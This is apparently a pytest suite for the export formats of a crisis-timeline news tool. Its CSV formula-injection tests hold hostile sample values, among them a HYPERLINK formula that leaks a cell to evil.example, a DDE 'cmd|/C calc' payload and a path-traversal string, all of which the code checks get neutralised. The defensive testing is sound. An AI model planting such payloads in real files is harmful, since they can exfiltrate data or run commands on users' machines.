"""Each export format: structure, validity, and that it says what it contains."""

from __future__ import annotations

import io
import json
import re
from datetime import date

import pandas as pd
import pytest

from crisis_timeline.csv_safe import csv_text, safe_cell
from crisis_timeline.exports import (
    ExportContext,
    export,
    provenance,
    provenance_name,
    source_rows,
)
from crisis_timeline.filters import Filters


@pytest.fixture(scope="module")
def view(seed_extraction):
    filters = Filters()
    events = filters.apply(seed_extraction.events)
    context = ExportContext(filters=filters, article_count=5)
    clusters = list(seed_extraction.clusters)
    return events, context, clusters, source_rows(seed_extraction.articles)


def test_csv_round_trips_through_pandas(view):
    events, context, *_ = view
    text = export("csv", events, context)
    assert text.startswith("event_id,article_id,outlet,"), "the CSV opens on its header"
    assert not any(line.startswith("#") for line in text.splitlines())
    frame = pd.read_csv(io.StringIO(text))
    assert len(frame) == len(events)
    assert list(frame.columns)[:3] == ["event_id", "article_id", "outlet"]
    assert set(frame["event_id"]) == set(events["event_id"])
    assert all(isinstance(json.loads(v), list) for v in frame["actors"])
    assert (
        frame["date"]
        .dropna()
        .map(lambda d: re.fullmatch(r"\d{4}-\d{2}-\d{2}", d) is not None)
        .all()
    )


def test_json_has_meta_and_iso_dates(view):
    events, context, *_ = view
    payload = json.loads(export("json", events, context))
    assert payload["meta"]["events"] == len(events) and payload["meta"]["articles"] == 5
    assert "background hidden" in payload["meta"]["filters"]
    assert payload["events"][0]["date"] <= payload["events"][-1]["date"]


def test_timelinejs_structure(view):
    events, context, *_ = view
    document = json.loads(export("timelinejs", events, context))
    assert document["title"]["text"]["headline"]
    assert document["events"], "no slides"
    ids = set()
    for slide in document["events"]:
        assert (
            set(slide["start_date"]) <= {"year", "month", "day"} and "year" in slide["start_date"]
        )
        assert all(isinstance(v, int) for v in slide["start_date"].values())
        assert slide["text"]["headline"] and slide["text"]["text"]
        assert slide["unique_id"] not in ids and re.fullmatch(r"[\w-]+", slide["unique_id"])
        ids.add(slide["unique_id"])
        if "end_date" in slide:
            assert (
                slide["end_date"]["year"],
                slide["end_date"]["month"],
                slide["end_date"]["day"],
            ) >= tuple(slide["start_date"].get(k, 1) for k in ("year", "month", "day"))


def test_geojson_is_valid(view):
    events, context, *_ = view
    collection = json.loads(export("geojson", events, context))
    assert collection["type"] == "FeatureCollection" and collection["features"]
    assert collection["metadata"]["tool"].startswith("Crisis Timeline")
    for feature in collection["features"]:
        assert feature["type"] == "Feature" and feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert feature["properties"]["name"] and feature["properties"]["events"]


def test_html_briefing_is_self_contained_and_small(view):
    events, context, clusters, sources = view
    page = export("html", events, context, clusters=clusters, sources=sources)
    assert page.startswith("<!DOCTYPE html>")
    # Issue 20: plotly.js inlined made four events weigh 4.8 MB; the chart is a static SVG.
    assert len(page.encode()) < 150_000
    assert "<script" not in page
    assert not re.search(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", page), "external resource"
    assert "@import" not in page and "fonts.googleapis" not in page
    assert "Where outlets disagree" in page and "almost two hours" in page
    assert "@page" in page and "Sources" in page
    svg = page.split('<svg class="ct-timeline"')[1].split('<div class="ct-chart-key"')[0]
    assert "<title>Timeline of the events by outlet, 8–20 November 2021</title>" in svg
    # one marker per event in the window, each with its hover text as a tooltip
    markers = re.findall(r"<g transform=[^>]*><title>([^<]*)</title>", svg)
    in_window = events[
        events["date"].map(lambda d: d is not None and date(2021, 11, 8) <= d <= date(2021, 11, 20))
    ]
    assert len(markers) == len(in_window) > 10
    assert all(" · " in text for text in markers), "when, outlet and type in each tooltip"
    assert 'class="ct-chart-key"' in page and "Diplomacy" in page
    assert "events in Dec 2021 →" in svg  # the lane of 003, whose events are in December
    # named outlets only: the two unattributed articles are counted apart
    assert "<strong>3</strong>outlets" in page
    assert "<strong>2</strong>articles without a known outlet" in page


@pytest.mark.parametrize(
    ("first", "last", "text"),
    [
        ("2021-11-15", "2021-11-15", "15 November 2021"),  # issue 20: said twice before
        ("2021-11-08", "2021-11-20", "8–20 November 2021"),
        ("2021-10-30", "2021-11-02", "30 October – 2 November 2021"),
        ("2021-12-30", "2022-01-02", "30 December 2021 – 2 January 2022"),
    ],
)
def test_briefing_says_a_date_range_once(first, last, text):
    from crisis_timeline.briefing import span_text

    assert span_text(date.fromisoformat(first), date.fromisoformat(last)) == text


def test_briefing_of_one_day_names_the_day_once(view):
    events, context, clusters, sources = view
    one_day = events[events["date"] == date(2021, 11, 15)]
    one_day = one_day[one_day["date_end"].isna() | (one_day["date_end"] == date(2021, 11, 15))]
    page = export("html", one_day, context, clusters=clusters, sources=sources)
    assert "<strong>15 November 2021</strong>" in page
    assert "15 November 2021 – 15 November 2021" not in page


def test_exports_follow_the_filtered_outlets(seed_extraction):
    from crisis_timeline.clusters import clusters_in_view

    filters = Filters(outlets=("RFI", "The Independent"))
    events = filters.apply(seed_extraction.events)
    clusters = clusters_in_view(seed_extraction.clusters, events)
    outlets_named = {o for c in clusters for d in c.discrepancies for o in d.values}
    assert outlets_named <= {"RFI", "The Independent"}
    assert any(d.unit == "minute" for c in clusters for d in c.discrepancies)
    sources = source_rows(seed_extraction.articles, events)
    assert {s["source"] for s in sources} == {"RFI", "The Independent"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "'=HYPERLINK"),
        ("+33 1 23", "'+33 1 23"),
        ("-cmd|' /C calc'!A0", "'-cmd"),
        ("@SUM(A1:A2)", "'@SUM"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "'\r=1+2"),
        ("-12", "-12"),  # a signed number cannot run: kept as a number
        ("+3.5", "+3.5"),
        ("Poland said", "Poland said"),
        ("a=b", "a=b"),  # only the first character matters
    ],
)
def test_csv_cells_never_start_a_formula(value, written):
    assert str(safe_cell(value)).startswith(written)
    frame = pd.read_csv(io.StringIO(csv_text([{"cell": value, "n": 7}], ["cell", "n"])))
    assert frame["n"].tolist() == [7], "numbers stay numeric"
    cell = str(frame["cell"][0])
    assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell in ("+3.5", "3.5")


def test_numbers_and_lists_keep_their_type():
    assert safe_cell(-12) == -12 and safe_cell(0.5) == 0.5 and safe_cell(None) is None
    assert safe_cell(["=a"]) == '["=a"]'


def test_csv_export_neutralises_hostile_outlets_and_sentences(view):
    events, context, *_ = view
    hostile = events.copy()
    hostile["outlet"] = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    hostile["sentence"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    frame = pd.read_csv(io.StringIO(export("csv", hostile, context)))
    assert set(frame["outlet"]) == {"'" + hostile["outlet"].iloc[0]}
    assert set(frame["sentence"]) == {"'" + hostile["sentence"].iloc[0]}
    assert pd.api.types.is_integer_dtype(frame["start"]), "offsets stay numeric"


def test_csv_provenance_is_a_sidecar(view):
    events, context, _, sources = view
    payload = json.loads(provenance(events, context, sources))
    assert payload["meta"]["events"] == len(events)
    assert payload["meta"]["generated_at"] and payload["meta"]["filters"]
    assert {s["source"] for s in payload["sources"]} >= {"RFI", "The Independent"}
    assert list(payload["columns"])[0] == "event_id" and payload["columns"]["sentence"]
    assert provenance_name("view.csv") == "view.csv.provenance.json"


def test_json_export_carries_the_store_and_the_sources(view):
    events, _, _, sources = view
    context = ExportContext(filters=Filters(), article_count=5, store="/data/events.duckdb")
    payload = json.loads(export("json", events, context, sources=sources))
    assert payload["meta"]["store"] == "/data/events.duckdb"
    assert len(payload["sources"]) == len(sources) == 5


@pytest.mark.parametrize(
    ("filters", "name"),
    [
        (Filters(), "crisis-timeline.csv"),
        (
            Filters(start=date(2021, 11, 8), end=date(2021, 11, 20), outlets=("RFI", "BBC")),
            "crisis-timeline_2021-11-08_2021-11-20_rfi-bbc.csv",
        ),
        (Filters(start=date(2021, 11, 8)), "crisis-timeline_from-2021-11-08.csv"),
        (
            Filters(places=("Kuźnica",), text="Łukaszenka's «plan»", background=True),
            "crisis-timeline_kuznica_q-lukaszenka-s-plan_background.csv",
        ),
        (Filters(event_types=("border_crossing",), languages=("fr",)), None),
        (Filters(actors=("Александр Лукашенко",)), None),  # no Latin letter: a short hash
        (Filters(outlets=tuple(f"Outlet number {n}" for n in range(40))), None),
        (Filters(text="../../etc/passwd\x00 <con> |&;"), None),
    ],
)
def test_file_names_say_which_view_they_hold(filters, name):
    from crisis_timeline.exports import FILE_STEM_CHARS, file_name

    context = ExportContext(filters=filters, article_count=1)
    written = file_name("csv", context)
    if name:
        assert written == name
    assert re.fullmatch(r"crisis-timeline[a-z0-9_-]*\.csv", written), written
    assert len(written) <= FILE_STEM_CHARS + len(".csv")
    if filters.event_types:
        assert "border-crossing" in written and "_fr_" in written
    if filters.actors:
        assert written != "crisis-timeline.csv"
    assert file_name("timelinejs", context).endswith(".timeline.json")


def test_long_file_names_of_different_views_differ():
    from crisis_timeline.exports import file_name

    names = {
        file_name("csv", ExportContext(Filters(outlets=(*["A long outlet name"] * 9, last)), 1))
        for last in ("One", "Two")
    }
    assert len(names) == 2


@pytest.mark.parametrize(
    ("keep", "note"),
    [
        ("all", None),
        ("no places", "None of the 3 events in view names a place"),
        ("unknown place", "name 1 place (Nowhereville) with no known coordinates"),
        ("none", "No events are in view"),
    ],
)
def test_an_empty_geojson_says_why(view, keep, note):
    from crisis_timeline.exports import geojson_note

    events, context, *_ = view
    if keep == "no places":
        events = events.head(3).assign(places=[[]] * 3)
    elif keep == "unknown place":
        events = events.head(3).assign(places=[["Nowhereville"]] * 3)
    elif keep == "none":
        events = events.head(0)
    collection = json.loads(export("geojson", events, context))
    if note is None:
        assert geojson_note(events) is None and collection["features"]
        assert "note" not in collection["metadata"]
    else:
        assert note in geojson_note(events)
        assert collection["features"] == [] and note in collection["metadata"]["note"]


@pytest.mark.parametrize(("query", "warned"), [("zzz", True), ("", False)])
def test_cli_says_when_the_geojson_is_empty(capsys, seed_store, query, warned):
    from crisis_timeline.cli import main

    argv = ["export", "--format", "geojson", "--db", str(seed_store)]
    status = main([*argv, "--q", query] if query else argv)
    captured = capsys.readouterr()
    collection = json.loads(captured.out)
    assert status == 0 and bool(collection["features"]) is not warned
    assert ("warning: No events are in view" in captured.err) is warned
